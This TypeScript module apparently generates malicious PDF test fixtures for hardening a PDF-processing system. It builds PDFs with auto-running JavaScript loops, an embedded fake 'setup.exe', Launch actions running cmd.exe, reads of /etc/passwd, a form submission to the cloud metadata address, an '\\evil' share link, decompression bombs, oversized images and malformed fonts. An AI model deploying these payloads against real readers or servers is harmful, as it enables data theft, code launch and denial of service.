import { deflateSync } from 'node:zlib';
import { bytesBy, onePage, type Random, someOf } from './harmful-pdf-parts.ts';
import { pdfOf, stream } from './pdfs.ts';

export const font = '/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';
export const written = 'BT /F1 24 Tf 72 700 Td (Proof of birth) Tj ET';
const script = 'while (true) { app.alert(this.path); this.exportDataObject({ cName: "x", nLaunch: 2 }); }';

export function withScripts(random: Random) {
  const action = `<< /S /JavaScript /JS (${script}) >>`;
  const catalogue = someOf(
    random,
    `/OpenAction ${action}`,
    `/AA << /WC ${action} /DP ${action} >>`,
    `/Names << /JavaScript << /Names [(a) ${action}] >> >>`,
  );
  const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 200 90] /AA << /F ${action} /C ${action} /K ${action} >> >>`;
  return onePage({
    ...{
      content: written,
      resources: font,
      page: `/AA << /O ${action} /C ${action} >> /Annots [5 0 R]`,
      more: [field],
    },
    catalogue: `${catalogue} /AcroForm << /Fields [5 0 R] /CO [5 0 R] /NeedAppearances true >>`,
  });
}

export function withFiles(random: Random) {
  const program = Buffer.concat([Buffer.from('MZ'), bytesBy(random, 200)]);
  return onePage({
    ...{ content: written, resources: font },
    catalogue: '/Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>',
    page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 99 99] /FS 5 0 R >>]',
    more: ['<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>', stream(program, '/Type /EmbeddedFile')],
  });
}

export function withLaunch(random: Random) {
  const action = someOf(
    random,
    '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    '<< /S /URI /URI (file:///etc/passwd) >>',
    '<< /S /SubmitForm /F (http://169.254.169.254/latest/meta-data) >>',
    '<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>',
    '<< /S /ImportData /F (/etc/passwd) >>',
  );
  const outside = `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (http://127.0.0.1:1/a) >> /Length 0 >>\nstream\n\nendstream`;
  return onePage({
    content: `${written} /I Do`,
    resources: `${font} /XObject << /I 5 0 R >>`,
    catalogue: `/OpenAction ${action}`,
    more: [outside],
  });
}

/** Some hundred megabytes of nothing, packed as often as it says. */
const packed = new Map<string, Buffer>();
export function nothing(megabytes: number, times: number): Buffer {
  const key = `${megabytes} ${times}`;
  const before = packed.get(key);
  if (before) return before;
  let bytes: Buffer = Buffer.alloc(megabytes * 1024 * 1024, 0x20);
  for (let time = 0; time < times; time++) bytes = deflateSync(bytes, { level: 9 });
  packed.set(key, bytes);
  return bytes;
}
export const filters = (times: number) => `/Filter [${'/FlateDecode '.repeat(times)}]`;

export function flateBomb(random: Random) {
  const times = 1 + random(3);
  return onePage({ content: nothing(someOf(random, 60, 200, 400), times), contentEntries: filters(times) });
}

export function hugeImage(random: Random) {
  const side = someOf(random, 20_000, 60_000, 2 ** 31 - 1);
  const space = someOf(random, '/DeviceGray', '/DeviceRGB', '/DeviceCMYK', '[/Indexed /DeviceRGB 255 <00>]');
  const entries = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace ${space} /BitsPerComponent ${someOf(random, 1, 8, 16)} ${filters(1)}`;
  return onePage({
    content: '595 0 0 842 0 0 cm /I Do',
    resources: '/XObject << /I 5 0 R >>',
    more: [stream(nothing(200, 1), entries)],
  });
}

export function garbageImage(random: Random) {
  const filter = someOf(
    random,
    '/JBIG2Decode',
    '/JPXDecode',
    '/DCTDecode',
    '/CCITTFaxDecode',
    '/LZWDecode',
    '/RunLengthDecode',
    '/ASCII85Decode',
  );
  const heads: Record<string, string> = {
    '/JPXDecode': '0000000c6a5020200d0a870a',
    '/DCTDecode': 'ffd8ffe0',
    '/JBIG2Decode': '00000000300001000000130000ffff0000ffff',
  };
  const data = Buffer.concat([Buffer.from(heads[filter] ?? '', 'hex'), bytesBy(random, 2_000)]);
  const [width, height] = [1 + random(5_000), 1 + random(5_000)];
  const entries = `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter ${filter} /DecodeParms << /K ${someOf(random, -1, 0, 1)} /Columns ${someOf(random, width, 2 ** 30)} /Rows ${height} >>`;
  return onePage({
    content: '595 0 0 842 0 0 cm /I Do',
    resources: '/XObject << /I 5 0 R >>',
    more: [stream(data, entries)],
  });
}

export function garbageFont(random: Random) {
  const [kind, file] = someOf<[string, string]>(
    random,
    ['TrueType', 'FontFile2'],
    ['Type1', 'FontFile'],
    ['Type1', 'FontFile3 6 0 R /X'],
  );
  const data = Buffer.concat([
    Buffer.from(someOf(random, '00010000', '4f54544f', '25214653', '01000404'), 'hex'),
    bytesBy(random, 3_000),
  ]);
  const description = `<< /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 0 1 1] /${file} 6 0 R >>`;
  return onePage({
    content: written,
    resources: `/Font << /F1 << /Type /Font /Subtype /${kind} /BaseFont /A /FirstChar 0 /LastChar 255 /Widths [1] /FontDescriptor 5 0 R /ToUnicode 6 0 R /Encoding 6 0 R >> >>`,
    more: [description, stream(data, `/Length1 ${someOf(random, 3_000, 2 ** 31 - 1, -1)} /Subtype /Type1C`)],
  });
}

const triangles = `0 0 m ${'595 842 l 0 421 l 300 0 l '.repeat(20_000)}f* S`;

/** A minute of drawing in some kilobytes: twelve pages of the same. */
export function endless(): Buffer {
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>';
  const kids = Array.from({ length: 12 }, (_, index) => `${index + 4} 0 R`).join(' ');
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count 12 >>`,
    stream(deflateSync(`${triangles}\n`.repeat(30)), filters(1)),
    ...Array.from({ length: 12 }, () => page),
  ]);
}

/** Little to send, and long to draw. */
export function slow(random: Random) {
  const tile = stream(
    '0 0 1 1 re f',
    '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.01 /YStep 0.01 /Resources << >>',
  );
  const program = stream(
    `{ ${'dup mul sqrt sin '.repeat(2_000)} }`,
    '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]',
  );
  return someOf(
    random,
    endless,
    () =>
      onePage({ content: '/Pattern cs /P scn 0 0 595 842 re f', resources: '/Pattern << /P 5 0 R >>', more: [tile] }),
    () =>
      onePage({
        content: '/S sh',
        resources:
          '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] /Function 5 0 R >> >>',
        more: [program],
      }),
    () =>
      onePage({
        content: deflateSync('/X Do '.repeat(1_000_000)),
        contentEntries: filters(1),
        resources: '/XObject << /X 5 0 R >>',
        more: [stream(triangles, '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Group << /S /Transparency >>')],
      }),
  )();
}
